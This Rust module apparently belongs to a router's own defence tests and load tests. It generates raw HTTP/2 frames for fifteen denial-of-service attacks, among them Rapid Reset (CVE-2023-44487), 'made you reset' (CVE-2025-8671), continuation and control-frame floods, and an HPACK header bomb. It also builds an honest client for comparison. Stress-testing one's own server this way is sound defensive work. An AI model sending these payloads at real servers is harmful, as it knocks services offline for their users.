//! The attacks of HTTP/2, frame by frame, and the honest client they are compared with. In clear text with prior knowledge:
//! what TLS costs is the same for all. The integration test `defence::slow` holds a bound for each; `loadtest attacks`
//! measures each. Does not read frames.

use super::{Attack, Class};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 section 6.5.2).
const INITIAL_WINDOW: u16 = 4;
/// Frames of a turn of the attacks whose frames are small.
const MANY: usize = 25;
/// Requests of a turn of the attacks that are about requests.
const FEW: u64 = 25;

/// How the header block of a GET begins here: method, `http`, and a name that is not kept.
const ASKED: &[u8] = &[0x82, 0x86, 0x01];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// The preface, settings (a window for each stream where one is given), the acknowledgement of the router's.
fn beginning(window: Option<u32>) -> Vec<u8> {
    let setting = window.map(|window| [&INITIAL_WINDOW.to_be_bytes()[..], &window.to_be_bytes()].concat());
    let settings = frame(SETTINGS, 0, 0, &setting.unwrap_or_default());
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), settings, frame(SETTINGS, 1, 0, b"")].concat()
}

/// Method, `http`, host `a` and a path: a header block without a table (RFC 7541 section 6.2.2; GET, POST and the scheme from
/// the static table).
fn block(post: bool, path: &str) -> Vec<u8> {
    let method = if post { 0x83 } else { 0x82 };
    let mut block = vec![method, 0x86, 0x01, 1, b'a', 0x04, u8::try_from(path.len()).unwrap_or(0)];
    block.extend_from_slice(path.as_bytes());
    block
}

/// The stream of a connection's request of that number, from 0.
fn stream(number: u64) -> u32 {
    u32::try_from(number * 2 + 1).unwrap_or(u32::MAX) & 0x7fff_ffff
}

fn get(number: u64, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &block(false, path))
}

/// The requests of a turn.
fn few(turn: u64, each: impl FnMut(u64) -> Vec<u8>) -> Vec<u8> {
    (turn * FEW..(turn + 1) * FEW).flat_map(each).collect()
}

fn ask(turn: u64) -> Vec<u8> {
    get(turn, "/")
}

fn pings(_: u64) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8]).repeat(MANY)
}

fn settings(_: u64) -> Vec<u8> {
    frame(SETTINGS, 0, 0, b"").repeat(MANY)
}

fn priorities(_: u64) -> Vec<u8> {
    frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1]).repeat(MANY)
}

fn empty_data(_: u64) -> Vec<u8> {
    frame(DATA, 0, 1, b"").repeat(MANY)
}

fn updates(_: u64) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(MANY)
}

fn unknown(_: u64) -> Vec<u8> {
    frame(0xbe, 0, 0, b"").repeat(MANY)
}

/// A request that is taken back at once (CVE-2023-44487).
fn rapid_reset(turn: u64) -> Vec<u8> {
    few(turn, |n| [get(n, "/"), frame(RST_STREAM, 0, stream(n), &8_u32.to_be_bytes())].concat())
}

/// A request that the router is made to take back (CVE-2025-8671): its window overflows.
fn made_you_reset(turn: u64) -> Vec<u8> {
    few(turn, |n| {
        let open = frame(HEADERS, END_HEADERS, stream(n), &block(true, "/sink"));
        [open, frame(WINDOW_UPDATE, 0, stream(n), &[0x7f, 0xff, 0xff, 0xff])].concat()
    })
}

/// A value with a space in front, which RFC 9113 forbids.
fn malformed(turn: u64) -> Vec<u8> {
    let block = [block(false, "/"), vec![0x00, 1, b'x', 2, b' ', b'y']].concat();
    few(turn, |n| frame(HEADERS, END_STREAM | END_HEADERS, stream(n), &block))
}

fn continuations(_: u64) -> Vec<u8> {
    frame(CONTINUATION, 0, 1, &[0x00, 1, b'x', 4, b'y', b'y', b'y', b'y'])
}

/// A header list that grows in the decoder: a field put into the table, then named a thousand times by a byte each (RFC 7541
/// section 7.3). A list whose values are large besides is refused by the codec, unseen.
fn bomb() -> Vec<u8> {
    let mut block = block(false, "/");
    block.extend_from_slice(&[0x40, 1, b'x', 4, b'y', b'y', b'y', b'y']);
    block.extend(std::iter::repeat_n(0xbe, 1_000));
    frame(HEADERS, END_STREAM | END_HEADERS, 1, &block)
}

fn attack(name: &'static str, first: Vec<u8>, frames: Option<fn(u64) -> Vec<u8>>) -> Attack {
    Attack { http2: true, first, frames, ..super::list::attack(name, Class::Frames, "") }
}

/// A client whose requests are answered: one at each turn.
pub fn honest() -> Attack {
    // As much of the connection's window as there can be, so that none has to be given back.
    let window = frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes());
    let first = [beginning(None), window].concat();
    Attack { reads: 64 << 10, ..attack("honest", first, Some(ask)) }
}

/// How many requests without a body an attack begins with.
pub fn requests(attack: &Attack) -> usize {
    attack.first.windows(ASKED.len()).filter(|bytes| *bytes == ASKED).count()
}

/// What an honest client sends on a connection of its own that makes so many requests.
pub fn honest_requests(count: usize) -> Vec<u8> {
    let requests = (0..count as u64).flat_map(|number| get(number, "/"));
    [beginning(None), requests.collect()].concat()
}

/// All attacks there are for HTTP/2.
pub(super) fn attacks() -> Vec<Attack> {
    let begun = || beginning(None);
    let posted = || [beginning(None), frame(HEADERS, END_HEADERS, 1, &block(true, "/sink"))].concat();
    let headless = [begun(), frame(HEADERS, END_STREAM, 1, &block(false, "/"))].concat();
    let closed = |count| [vec![beginning(Some(0))], (0..count).map(|n| get(n, "/flood")).collect()].concat();
    // Windows without an end, and nobody who reads: what the codec takes is bounded for each stream, and not by the windows.
    let all = frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes());
    let wide = |count| {
        [vec![beginning(Some(0x7fff_ffff)), all], (0..count).map(|n| get(n, "/flood")).collect()].concat()
    };
    vec![
        attack("ping flood", begun(), Some(pings)),
        Attack { reads: 0, window: Some(2 << 10), ..attack("unread pings", begun(), Some(pings)) },
        attack("settings flood", begun(), Some(settings)),
        attack("priority flood", begun(), Some(priorities)),
        attack("empty data flood", posted(), Some(empty_data)),
        attack("window update flood", begun(), Some(updates)),
        attack("unknown frames", begun(), Some(unknown)),
        attack("rapid reset", begun(), Some(rapid_reset)),
        attack("made you reset", begun(), Some(made_you_reset)),
        attack("malformed requests", begun(), Some(malformed)),
        attack("continuation flood", headless, Some(continuations)),
        Attack { renews: true, ..attack("header bomb", [begun(), bomb()].concat(), None) },
        Attack { class: Class::Connections, ..attack("closed windows", closed(4).concat(), None) },
        Attack {
            class: Class::Connections,
            reads: 0,
            window: Some(2 << 10),
            ..attack("wide windows", wide(8).concat(), None)
        },
        Attack { class: Class::Connections, ..attack("silent after the preface", begun(), None) },
    ]
}
